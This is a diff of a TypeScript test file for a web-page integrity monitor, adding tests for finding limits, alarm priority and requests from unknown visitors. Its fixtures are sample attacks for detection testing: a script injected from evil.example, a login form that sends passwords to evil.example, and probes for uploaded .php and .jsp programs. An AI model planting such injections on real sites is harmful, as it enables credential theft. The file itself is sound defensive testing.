@@ -2,7 +2,7 @@
 import t from 'tap'
 import { AppChanges } from '../../src/administration/app-changes.ts'
 import { AppWatch } from '../../src/integrity/app-watch.ts'
-import { type Finding, findingsMost } from '../../src/integrity/finding.ts'
+import type { Finding } from '../../src/integrity/finding.ts'
 import { knownRecord, openRecord } from '../../src/integrity/records.ts'
 import { MemoryStore, TestClock } from '../fixtures/in-process/memory-store.ts'
 import { read } from './fixture.ts'
@@ -12,12 +12,14 @@ function lab() {
   const store = new MemoryStore(time.read)
   const found: (readonly [Finding, isTold: boolean])[] = []
   const said: string[] = []
+  const full: string[] = []
   const gate = async (learnMs = 0) => {
     const watch = new AppWatch({
       app: 'files',
       store,
       clock: time.read,
       onFinding: (finding, isTold) => found.push([finding, isTold]),
+      onFull: place => full.push(place),
       say: why => said.push(why)
     })
     watch.learnMs = learnMs
@@ -25,20 +27,21 @@ function lab() {
     return watch
   }
   const changes = new AppChanges({ store, clock: time.read, record: async () => {} })
-  return { time, store, found, said, gate, changes }
+  return { time, store, found, said, full, gate, changes }
 }
 
 const html = (more = '') =>
   `<html><head><script src="/app.js"></script></head><body><form action="/go"></form>${more}</body></html>`
 const script = (host: string) => html(`<script src="https://${host}/x.js"></script>`)
 
-function show(watch: AppWatch, text: string, times = 1, page = '/login'): void {
+function show(watch: AppWatch, text: string, times = 1, page = '/login', isStranger = false): void {
   for (let i = 0; i < times; i++)
     watch.see({
       page,
       endpoint: { kind: 'endpoint', value: `GET ${page}` },
       reading: read(text, page),
-      isFetched: false
+      isFetched: false,
+      isStranger
     })
 }
 
@@ -99,7 +102,7 @@ t.test('a damaged record, and one of a newer release, are said once and learned 
 })
 
 t.test('an app that changes as a whole: few notices, a bound of findings, silence', async t => {
-  const { gate, found, store, time, changes } = lab()
+  const { gate, found, full, store, time, changes } = lab()
   const watch = await gate()
   for (let i = 0; i < 60; i++)
     show(watch, html(), 4, `/p${String.fromCharCode(97 + (i % 26), 97 + Math.floor(i / 26))}`)
@@ -109,16 +112,90 @@ t.test('an app that changes as a whole: few notices, a bound of findings, silenc
     await watch.sync()
     time.advance(1)
   }
-  t.equal(found.length, findingsMost)
+  t.equal(found.length, 24)
   t.equal(found.filter(([, isTold]) => isTold).length, 3)
+  t.same(full, ['change'], 'that there is no more room is said once')
   t.ok((await store.get(openRecord.key('files')))!.length < 512 * 1024)
+  show(watch, script('evil.example'), 1, '/paa')
+  await watch.sync()
+  t.match(found[24], [{ severity: 'alarm', page: '/paa' }, true], 'an alarm has a place, and is told of')
   const [state] = await changes.read(['files'])
+  t.match(state!.full, [/list of what is new in the app 'files' is full: further changes are not listed/])
   for (const { id } of state!.findings) t.ok(await changes.approve('files', id))
   await watch.reload()
   t.equal(watch.findings.length, 0)
   show(watch, html('<script>updateaa(); moreaa()</script>'), 2, '/paa')
   await watch.sync()
-  t.equal(found.length, findingsMost, 'what was approved is known')
+  t.equal(found.length, 25, 'what was approved is known')
+  t.same((await changes.read(['files']))[0]!.full, [])
+  show(watch, html('<script>updatezb(); morezb()</script>'), 1, '/pzb')
+  await watch.sync()
+  t.equal(found.length, 26, 'what had no place is not learned, and found when there is room')
+  t.same(full, ['change'])
+})
+
+t.test(
+  'N3 · a stranger who only asks for paths crowds out no alarm, uses up no notice, and teaches nothing',
+  async t => {
+    const { gate, found, full, time } = lab()
+    const watch = await gate()
+    show(watch, html(), 20)
+    const ask = (page: string, isStranger: boolean) =>
+      watch.see({
+        page,
+        endpoint: { kind: 'endpoint', value: `POST ${page}` },
+        reading: null,
+        isFetched: false,
+        isStranger
+      })
+    const names = Array.from({ length: 40 }, (_, i) => `${String.fromCharCode(97 + (i % 26), 97 + Math.floor(i / 26))}`)
+    for (const name of names) ask(`/pub/${name}/go`, true)
+    await watch.sync()
+    t.same(found, [])
+    for (const name of names) {
+      ask(`/uploads/${name}.php`, true)
+      await watch.sync()
+      time.advance(1)
+    }
+    t.equal(found.length, 4, 'a program among the files is an alarm, whoever has asked for it')
+    t.equal(found.filter(([, isTold]) => isTold).length, 2)
+    t.same(full, ['stranger'])
+    ask('/pub/ab/go', false)
+    await watch.sync()
+    t.match(found[4], [{ severity: 'change', page: '/pub/ab/go' }, true], 'the path was not learned')
+    for (const name of names) {
+      ask(`/files/${name}.jsp`, false)
+      await watch.sync()
+      time.advance(60)
+    }
+    t.same(full, ['stranger', 'program'], 'paths alone have few places')
+    show(watch, html('<form action="https://evil.example"><input type="password"></form>'), 1, '/login', true)
+    await watch.sync()
+    t.match(found.at(-1), [
+      { severity: 'alarm', page: '/login', why: /password is sent to https:\/\/evil\.example/ },
+      true
+    ])
+  }
+)
+
+t.test('alarms displace changes, and when alarms fill the list too, this is said', async t => {
+  const { gate, found, full, changes } = lab()
+  const watch = await gate()
+  const names = Array.from({ length: 34 }, (_, i) => String.fromCharCode(97 + (i % 26), 97 + Math.floor(i / 26)))
+  for (const name of names) show(watch, html(), 20, `/p${name}`)
+  for (const name of names.slice(0, 26)) {
+    show(watch, html(`<script>one${name}()</script>`), 1, `/p${name}`)
+    await watch.sync()
+  }
+  for (const name of names) {
+    show(watch, script(`evil-${name}.example`), 1, `/p${name}`)
+    await watch.sync()
+  }
+  t.equal(found.filter(([{ severity }]) => severity === 'alarm').length, 32)
+  t.same(full, ['change', 'alarm'])
+  const [state] = await changes.read(['files'])
+  t.ok(state!.findings.every(({ severity }) => severity === 'alarm'))
+  t.equal(state!.full.length, 2)
 })
 
 t.test('a store that is away delays the line, and loses nothing', async t => {
